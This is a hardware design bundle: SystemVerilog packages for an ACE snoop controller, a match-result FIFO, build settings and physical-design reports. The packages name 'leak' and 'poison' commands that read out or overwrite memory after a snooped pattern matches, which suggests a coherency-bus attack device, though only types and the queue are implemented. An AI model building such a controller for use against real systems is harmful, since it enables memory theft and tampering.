### src/ace_pkg.sv
// ------------------------------
// ACE snoop side bus shapes
// ------------------------------
package ace_pkg;

    // address and data geometry of the snoop channels
    localparam int ADDR_W     = 44;
    localparam int WORD_W     = 32;
    localparam int LINE_WORDS = 16;
    localparam int LINE_BYTES = 64;
    localparam int LINE_W     = LINE_BYTES * 8;

    // snoop control field widths
    localparam int ARSNOOP_W = 4;
    localparam int AWSNOOP_W = 3;
    localparam int DOMAIN_W  = 2;

    // ardomain encodings used by the controller
    localparam logic [DOMAIN_W-1:0] DOMAIN_NONSHARED = 2'd0;
    localparam logic [DOMAIN_W-1:0] DOMAIN_OUTER     = 2'd2;

    // ReadNoSnoop for leak reads
    localparam logic [ARSNOOP_W-1:0] SNOOP_READ_NOSNOOP = 4'd0;

    // one full cache line, word 0 in the low bits
    typedef logic [LINE_W-1:0] line_t;

    // snooped transaction as captured by the passive side
    typedef struct packed {
        logic [ADDR_W-1:0] addr;
        line_t             line;
    } snoop_t;

    // read request towards the active side, 50 bits
    typedef struct packed {
        logic [ADDR_W-1:0]    addr;
        logic [ARSNOOP_W-1:0] arsnoop;
        logic [DOMAIN_W-1:0]  ardomain;
    } rd_req_t;

    // write request towards the active side, 561 bits
    typedef struct packed {
        logic [ADDR_W-1:0]    addr;
        logic [AWSNOOP_W-1:0] awsnoop;
        logic [DOMAIN_W-1:0]  ardomain;
        line_t                line;
    } wr_req_t;

endpackage

### src/devil_pkg.sv
// ------------------------------
// controller types and constants
// ------------------------------
package devil_pkg;

    // configured address width from the register file
    localparam int CFG_ADDR_W = 32;

    // pattern size in words, 1 to 16
    localparam int PSIZE_W = 5;

    // 0x6c0 bytes leaked, one line per read
    localparam int LEAK_LINES = 32'h6C0 / ace_pkg::LINE_BYTES;
    localparam int LEAK_CNT_W = $clog2(LEAK_LINES);

    // match result queue geometry
    localparam int QUEUE_DEPTH = 4;
    localparam int QUEUE_PTR_W = $clog2(QUEUE_DEPTH);
    localparam int QUEUE_CNT_W = $clog2(QUEUE_DEPTH + 1);

    // action on a hit, any other code means no action
    typedef enum logic [3:0] {
        CMD_LEAK   = 4'd0,
        CMD_POISON = 4'd1
    } cmd_e;

    // sequencer states
    typedef enum logic [3:0] {
        ST_IDLE       = 4'd0,
        ST_CHOOSE     = 4'd1,
        ST_LEAK_ISSUE = 4'd2,
        ST_LEAK_WAIT  = 4'd3,
        ST_POISON     = 4'd4,
        ST_REPLY      = 4'd5,
        ST_END        = 4'd6
    } state_e;

    // software configuration, held stable while snoops run
    typedef struct packed {
        cmd_e                          cmd;
        ace_pkg::line_t                pattern;
        logic [PSIZE_W-1:0]            pattern_size;
        logic [CFG_ADDR_W-1:0]         leak_addr;
        logic [CFG_ADDR_W-1:0]         poison_addr;
        logic [ace_pkg::AWSNOOP_W-1:0] poison_awsnoop;
        ace_pkg::line_t                poison_line;
    } cfg_t;

    // one matcher result, 557 bits
    typedef struct packed {
        logic                       hit;
        logic [ace_pkg::ADDR_W-1:0] addr;
        ace_pkg::line_t             line;
    } match_t;

endpackage

### src/match_queue.sv
module match_queue
(
    input  logic              ace_aclk,
    input  logic              ace_aresetn,
    input  logic              i_push,
    input  devil_pkg::match_t i_entry,
    input  logic              i_pop,
    output devil_pkg::match_t o_head,
    output logic              o_not_empty,
    output logic              o_full
);

    devil_pkg::match_t                  mem [devil_pkg::QUEUE_DEPTH];
    logic [devil_pkg::QUEUE_PTR_W-1:0]  wr_ptr;
    logic [devil_pkg::QUEUE_PTR_W-1:0]  rd_ptr;
    logic [devil_pkg::QUEUE_CNT_W-1:0]  count;
    // full seen one cycle back, the push now belongs to that snoop
    logic                               full_d;
    logic                               push_ok;
    logic                               pop_ok;

    // ------------------------------
    // status
    // ------------------------------

    // a push refused here was sent while busy was high
    assign push_ok     = i_push && !full_d;
    assign pop_ok      = i_pop && o_not_empty;
    assign o_not_empty = (count != '0);

    // counts the push landing this cycle so a snoop taken now always fits
    assign o_full = (int'(count) + int'(push_ok)) >= devil_pkg::QUEUE_DEPTH;

    assign o_head = mem[rd_ptr];

    // ------------------------------
    // pointers and occupancy
    // ------------------------------
    always_ff @(posedge ace_aclk)
    begin
        if (!ace_aresetn)
        begin
            wr_ptr <= '0;
            rd_ptr <= '0;
            count  <= '0;
            full_d <= 1'b0;
        end
        else
        begin
            full_d <= o_full;
            if (push_ok)
            begin
                wr_ptr <= wr_ptr + 1'b1;
            end
            if (pop_ok)
            begin
                rd_ptr <= rd_ptr + 1'b1;
            end
            // push and pop together leave the count alone
            case ({push_ok, pop_ok})
                2'b10:   count <= count + 1'b1;
                2'b01:   count <= count - 1'b1;
                default: count <= count;
            endcase
        end
    end

    // storage
    always_ff @(posedge ace_aclk)
    begin
        if (push_ok)
        begin
            mem[wr_ptr] <= i_entry;
        end
    end

endmodule

### config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = match_queue
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/ace_pkg.sv /design/src/devil_pkg.sv /design/src/match_queue.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_AREA = 2 2 439 441
export DETAILED_ROUTE_END_ITERATION = 8
export DIE_AREA = 0 0 441 443
export DONT_BUFFER_PORTS = 1
export PLACE_DENSITY = 0.61
export SETUP_SLACK_MARGIN = 0.1
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 1
### constraint.sdc
create_clock -name ace_aclk -period 34.5 [get_ports ace_aclk]
set_clock_uncertainty 0.05 [all_clocks]
set_input_delay 10.35 -clock ace_aclk [delete_from_list [all_inputs] [get_ports ace_aclk]]
set_output_delay 10.35 -clock ace_aclk [all_outputs]
set_load 0.02 [all_outputs]
==> flow_summary.json <==
{
  "status": "finished, final reports clean",
  "hold_viol": 0,
  "yosys-top-cells-count": "2,228 x edfxtp_1, 557 x mux4_2, 55 x buf_12, 55 x buf_2, 10 x dfxtp_1",
  "utilization": 0.4727,
  "nets": 3665,
  "fmax_mhz": 46.46,
  "critPathLaunchType": "input port",
  "rows": 161,
  "ios": 1120,
  "grt_pass1_vias": 32861,
  "drc_errors": 0,
  "syn_nets": 3527,
  "dr.pass1.iters": 6,
  "reg2reg_from": "full_d",
  "root_buffer": "clkbuf_16",
  "die_area_sq_um": 195400,
  "dp.cells": 5408,
  "drive_gt1_frac": 0.2742,
  "grt_overflow": 0,
  "cpPeakStageDelay_ns": 0.45,
  "slew_headroom": 0.2813,
  "die_h_microns": 443,
  "place_congestion": 0.7970,
  "min_path_type": "reg -> reg",
  "fp.coreArea_sq_um": 191200,
  "grt_pass1_wl_mm": 247.3,
  "post_drt_via_cell_ratio": 5.514,
  "ff2ff_path_depth": 6,
  "synth_edf_count": 2228,
  "ctsResizeCount": 0,
  "place_area_sq_um": 83610,
  "drt_iter0_markers": 2258,
  "ys_ff_latch": 2238,
  "cts_buffers": 214,
  "critical_path_buf_inv_count": 0,
  "cap_violations": 0,
  "tns_ns": 0,
  "ys_seq_area_frac": 0.8241,
  "worstHoldStart": "wr_ptr[1]",
  "power_density_nw_per_um2": 79.42,
  "fillers": 15067,
  "clkLatencyLatePin_ns": 0.84,
  "dieWidth_microns": 441,
  "layoutNonFillerInstCount": 5809,
  "ir_worst_vdd_mv": 0.06534,
  "synth_most_common_cell": "edfxtp_1",
  "htree_levels": 4,
  "grt_max_degree": 140,
  "vias": 32029,
  "dp_hpwl_mm": 111.9,
  "clk_pin_slew_worst_paths_ns": 0.06,
  "setup_viol": 0,
  "clockBufferDepth": 3,
  "async_flop_share": 0,
  "hold_buffers": 0,
  "r2r_slack_ns": 28.84,
  "critPathCaptureType": "output pin",
  "cp_slowest_cell": "nor2b_1",
  "design_area_sq_um": 90360,
  "cts_setup_buffers": 0,
  "cp_max_fo": 8,
  "path_cells": "nor2b_1 -> a31o_2",
  "ys.flop_type": "edfxtp_1",
  "wirelength_mm": 175.9,
  "critPathArrivalTime_ns": 11.12,
  "cts_tree": "built",
  "synth_cell_type_count": 23,
  "p_leak_nw": 27.09,
  "path_delay_family": "simple AND/OR/NAND/NOR gates",
  "yosys_warnings": 0,
  "clock-sinks": 2238,
  "r2r_end": "mem[0][354]",
  "synth_top_area_frac": 0.8216,
  "cp.required_ns": 24.10,
  "synth.cell_area_sq_um": 81430,
  "netlist_top_cells_area": "edfxtp_1 82%, mux4_2 15%, buf_12 1.4%",
  "crit_type": "in -> out",
  "antenna_found_initial": 3,
  "syn_inst": 2960,
  "worst_slack_ns": 12.98,
  "postRouteAntennaNets": 0,
  "start_util": 0.4259,
  "worst_pin_slew_ns": 1.078,
  "place_ws_ns": 12.99,
  "worstHoldPathCells": 2,
  "min_period_ns": 21.52,
  "routedWlPerCell_microns": 30.28,
  "yosys.area.top_type": "edfxtp_1",
  "rsz0062_at_grt": "false",
  "portBuffers": 0,
  "area_growth_pct": 10.97,
  "avgSynthCellArea_sq_um": 27.51,
  "report.final.slew_viol_count": 0,
  "post-route-period-util": 0.6238,
  "whs_endpoint": "wr_ptr[1]",
  "grt_util_all_layers": 0.1770
}
==> kinds of logic after synthesis <==
| family | after synthesis | share of synthesized area |
|---|---|---|
| xor gates and xnor gates | 5 | 0.0005378 |
| AOI/OAI and AO/OA | 6 | 0.0005379 |
| buffers and inverters | 131 | 0.01842 |
| DFF | 2238 | 0.8241 |
| adders and majority gates | 6 | 0.001014 |
| muxes | 558 | 0.1542 |
| and+or+nand+nor | 16 | 0.001198 |
==> worst max-delay path by stage <==
stage,from,endpoint,slack [ns],cells after the start
2_1_floorplan,i_push,mem[0][0],10.14,3
3_3_place_gp,i_push,o_full,13.00,2
3_5_place_dp,i_push,o_full,12.99,2
4_1_cts,i_push,o_full,12.99,2
5_1_grt,i_push,o_full,12.92,2
6_report,i_push,o_full,12.98,2
==> state kept, by name, indices dropped and copies added, names as in the netlist, named ones only <==
| signal | flops |
|---|---|
| full_d | 1 |
| rd_ptr | 2 |
| mem | 2228 |
| wr_ptr | 2 |
| count | 3 |
==> where the power goes <==
part	internal [mW]	switching, mW	total (mW)
Clock	1.26	0.977	2.24
Combinational	0.533	1.08	1.61
Sequential	3.27	0.0591	3.33
==> cell usage in the layout (no fill, tap or decap), drive strengths merged <==
master / Yosys / routed
edfxtp: 2228 / 2228
mux4: 557 / 557
clkbuf: 8 / 266
clkinv: 0 / 97
buf: 117 / 47
bufinv: 0 / 15
inv: 6 / 14
clkinvlp: 0 / 11
dfxtp: 10 / 10
and2: 9 / 9
ha: 5 / 5
diode: 0 / 4
nor2b: 4 / 4
xnor2: 4 / 4
or3: 2 / 2
o21ai: 2 / 2
o31a: 1 / 1
a31o: 1 / 1
nand2: 1 / 1
o311ai: 1 / 1
mux2i: 1 / 1
xor2: 1 / 1
a21boi: 1 / 1
fa: 1 / 1
==> layer usage <==
layer	wire (microns)	part of all wire	GRT usage
met1	60480	0.34	0.1966
met2	91160	0.52	0.2973
met4	7049	0.040	0.07422
met3	17200	0.098	0.07511
met5	0	0	0
==> stage by stage <==
step | hold slack, ns | power (mW)
after floorplan | 0.4450 | 4.901
after global placement | 0.4955 | 5.030
after detailed placement | 0.5018 | 5.038
after CTS | 0.5172 | 7.283
after global routing | 0.5726 | 7.437
final | 0.5240 | 7.176
==> cell type report <==
type | instances | area, sq um | area share
inverter | 6 | 22.52 | 0.0002492
antenna | 4 | 10.01 | 0.0001108
sequential | 2238 | 67110 | 0.7427
clock buffer | 266 | 5593 | 0.06190
multi-input combinational | 591 | 12830 | 0.1420
tap | 2526 | 3161 | 0.03498
clock inverter | 131 | 1152 | 0.01275
timing repair buffer | 47 | 478.0 | 0.005289
Note: power is estimated with default switching activity, not from simulation.
